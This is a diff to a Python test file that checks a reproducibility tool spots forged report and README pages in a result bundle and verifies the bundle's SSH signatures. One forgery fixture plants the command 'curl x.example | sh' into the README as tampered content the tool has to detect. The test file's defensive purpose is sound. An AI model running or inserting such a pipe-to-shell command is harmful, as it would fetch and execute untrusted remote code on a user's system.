@@ -23,12 +23,14 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from orchestrator.errors import ReproError
+from orchestrator.folders import find_folders
 from orchestrator.launch.provenance import user_name
 from orchestrator.results.bundle.verify import verify
 from tests.unit.cli.calling import Caller, Done
 from tests.unit.launch.stand_in import Site
 
 TOP = "figure-13-cpu-here"
+TEMPLATES = find_folders().templates
 
 
 def content(file: Path) -> dict[str, bytes]:
@@ -93,7 +95,8 @@ def test_a_bundle_holds_where_there_is_nothing_but_the_file(reviewer: Caller, ma
     assert re.fullmatch(
         r"files     \d+ of them: no difference\n"
         r"numbers   6 attempts read again: 48 iterations, \d+ metrics: no difference\n"
-        r"results   6 cases and \d+ claims judged again: no difference\n",
+        r"results   6 cases and \d+ claims judged again: no difference\n"
+        r"pages     report\.html and README\.txt rendered again: no difference\n",
         done.stdout,
     )
     assert list(reviewer.site.folder.iterdir()) == []
@@ -282,7 +285,7 @@ def test_no_bit_of_any_file_changes_unseen(made: Path, files: dict[str, bytes], 
     with tempfile.TemporaryDirectory() as folder:
         file = packed({**files, path: bytes(text)}, Path(folder) / made.name)
         try:
-            assert not verify(file).holds
+            assert not verify(file, TEMPLATES).holds
         except ReproError as error:
             assert len(str(error).splitlines()) == 1
 
@@ -398,6 +401,122 @@ def test_what_does_not_follow_from_its_logs_is_named_though_every_checksum_is_ri
     assert str(tmp_path) not in done.stdout
 
 
+FORGED: dict[str, Change] = {
+    "a number in the report": replace(r"report\.html", b"420", b"240"),
+    "a verdict in the report": replace(r"report\.html", b"All 6 cases are verified", b"All 9 cases are verified"),
+    "a link in the report": replace(r"report\.html", b"</body>", b"<a href='https://x.example'>data</a></body>"),
+    "a command in the README": replace(r"README\.txt", b"repro submit", b"curl x.example | sh; repro submit"),
+    "a number in the README": replace(r"README\.txt", b"6 attempts", b"60 attempts"),
+}
+
+
+@pytest.mark.parametrize("what", FORGED)
+def test_a_forged_report_or_readme_is_named_though_every_checksum_is_right(
+    reviewer: Caller, files: dict[str, bytes], tmp_path: Path, what: str
+) -> None:
+    done = changed(reviewer, files, tmp_path, FORGED[what], with_sums=True)
+    page = "report.html" if "report" in what else "README.txt"
+    assert done.returncode == 1
+    assert f"{'':<8}  {page}: differs from what the ledger in the bundle gives\n" in done.stdout
+    assert "it is consistent" not in done.stderr
+
+
+def test_pages_that_other_code_made_are_said_to_prove_nothing(
+    reviewer: Caller, files: dict[str, bytes], tmp_path: Path
+) -> None:
+    def change(copy: dict[str, bytes]) -> None:
+        FORGED["a number in the report"](copy)
+        copy["bundle.json"] = re.sub(rb'"code_sha256": "[0-9a-f]+"', b'"code_sha256": "0"', copy["bundle.json"])
+
+    done = changed(reviewer, files, tmp_path, change, with_sums=True)
+    assert done.returncode == 0
+    assert "pages     report.html not compared, as other code of repro made them\n" in done.stdout
+    assert "consistent with its own checksums and logs: numbers and claims follow from the logs" in done.stderr
+    assert "note: report.html and README.txt are not checked" in done.stderr
+
+
+@pytest.fixture(scope="module")
+def keys(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A folder with two keys, and files that allow them."""
+    folder = tmp_path_factory.mktemp("keys")
+    for name in ("ada", "eve"):
+        words = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", name, "-f", str(folder / name)]
+        subprocess.run(words, check=True, capture_output=True)
+        public = (folder / f"{name}.pub").read_text()
+        (folder / f"only-{name}").write_text(f"{name}@example.org {public}")
+        (folder / f"{name}-for-git").write_text(f'{name}@example.org namespaces="git" {public}')
+    return folder
+
+
+@pytest.fixture
+def signed(looking: Caller, keys: Path, tmp_path: Path) -> Path:
+    file = tmp_path / "signed.tar.zst"
+    done = looking("bundle", "figure-13", "-o", str(file), "--sign", str(keys / "ada"))
+    assert done.returncode == 0 and f"signature: {file}.sig" in done.stderr, done.stderr
+    return file
+
+
+def test_a_signed_bundle_names_its_signer_and_has_the_same_bytes(
+    looking: Caller, signed: Path, keys: Path, made: Path
+) -> None:
+    assert signed.read_bytes() == made.read_bytes()
+    done = looking("bundle", "verify", str(signed), "--allowed-signers", str(keys / "only-ada"))
+    assert done.returncode == 0, done.stdout
+    assert re.match(r"signature by ada@example\.org \(ED25519 key SHA256:\S+\): valid\n", done.stdout)
+    assert "who made it is not checked" not in done.stderr
+    with signed.open("rb") as file:
+        words = ["ssh-keygen", "-Y", "verify", "-f", str(keys / "only-ada"), "-I", "ada@example.org"]
+        words += ["-n", "repro-bundle", "-s", f"{signed}.sig"]
+        subprocess.run(words, stdin=file, check=True, capture_output=True)
+    assert looking("bundle", "figure-13", "-o", str(signed), "--force").returncode == 0
+    assert not signed.with_name(f"{signed.name}.sig").exists()
+
+
+def _grow(file: Path) -> None:
+    file.write_bytes(file.read_bytes() + zstandard.ZstdCompressor().compress(b""))
+
+
+UNTRUSTED: dict[str, tuple[Callable[[Path], object], str, str]] = {
+    "no signature": (lambda file: file.with_name(f"{file.name}.sig").unlink(), "only-ada", "the bundle is not signed"),
+    "a changed bundle": (_grow, "only-ada", r"no valid signature of signed\.tar\.zst \(.*incorrect signature\)"),
+    "an unknown signer": (lambda _: None, "only-eve", r"only-eve does not allow its ED25519 key SHA256:\S+ to sign"),
+    "a key for other things": (lambda _: None, "ada-for-git", "ada-for-git does not allow its ED25519 key"),
+    "a damaged signature": (
+        lambda file: file.with_name(f"{file.name}.sig").write_text("-----BEGIN SSH SIGNATURE-----\n"),
+        "only-ada",
+        "no valid signature",
+    ),
+}
+
+
+@pytest.mark.parametrize("what", UNTRUSTED)
+def test_a_bundle_that_nobody_allowed_has_signed_fails(looking: Caller, signed: Path, keys: Path, what: str) -> None:
+    change, allowed, said = UNTRUSTED[what]
+    change(signed)
+    done = looking("bundle", "verify", str(signed), "--allowed-signers", str(keys / allowed))
+    assert done.returncode == 1
+    assert re.match(rf"signature .*\.sig: .*{said}", done.stdout), done.stdout
+    assert looking("bundle", "verify", str(signed)).returncode == 0
+
+
+@pytest.mark.parametrize("option", ["--sign", "--allowed-signers"])
+def test_without_ssh_keygen_it_is_said_in_one_line(
+    looking: Caller, signed: Path, keys: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, option: str
+) -> None:
+    monkeypatch.setenv("PATH", str(tmp_path))
+    what = ["figure-13", "-o", str(tmp_path / "a.tar.zst")] if option == "--sign" else ["verify", str(signed)]
+    done = looking("bundle", *what, option, str(keys / "only-ada"))
+    assert (done.returncode, done.stdout, len(done.complaints)) == (2, "", 1)
+    assert "ssh-keygen: not found; install OpenSSH's client" in done.stderr
+
+
+def test_a_key_that_cannot_sign_leaves_the_bundle_and_says_so(looking: Caller, keys: Path, tmp_path: Path) -> None:
+    file = tmp_path / "a.tar.zst"
+    done = looking("bundle", "figure-13", "-o", str(file), "--sign", str(keys / "only-ada"))
+    assert done.returncode == 2 and f"{file} is written and not signed (" in done.stderr
+    assert not file.with_name(f"{file.name}.sig").exists()
+
+
 ODD: dict[str, tuple[Change, str]] = {
     "no row": (replace(r"ledger/jobs\.jsonl", b"{", b"["), r"ledger/jobs\.jsonl:1: no row of that table \("),
     "no text": (replace(r"ledger/jobs\.jsonl", b"{", b"\xff"), r"ledger/jobs\.jsonl:1: no row of that table \("),
@@ -462,8 +581,12 @@ def test_what_is_no_bundle_is_refused_in_one_line(
 @pytest.mark.parametrize(
     ("words", "said"),
     [
-        (["verify"], "verify takes a file, and nothing else; repro bundle verify FILE.tar.zst"),
-        (["verify", "x", "--force"], "verify takes a file, and nothing else"),
+        (["verify"], "verify takes a file, and no option but --allowed-signers; repro bundle verify FILE.tar.zst"),
+        (["verify", "x", "--force"], "verify takes a file, and no option but --allowed-signers"),
+        (["verify", "x", "--sign", "key"], "verify takes a file, and no option but --allowed-signers"),
+        (["figure-13", "--allowed-signers", "x"], "--allowed-signers: only verify takes it; --sign KEY signs a bundle"),
+        (["figure-13", "--sign", "no-key"], "--sign no-key: no such file; ssh-keygen -t ed25519 makes a key"),
+        (["verify", "x", "--allowed-signers", "no-file"], "--allowed-signers no-file: no such file"),
         (["figure-13", "x"], "x: only verify takes a file here; -o names the one to write"),
         (["verify", "nowhere.tar.zst"], "nowhere.tar.zst: No such file or directory"),
         (["verify", "."], ".: Is a directory"),
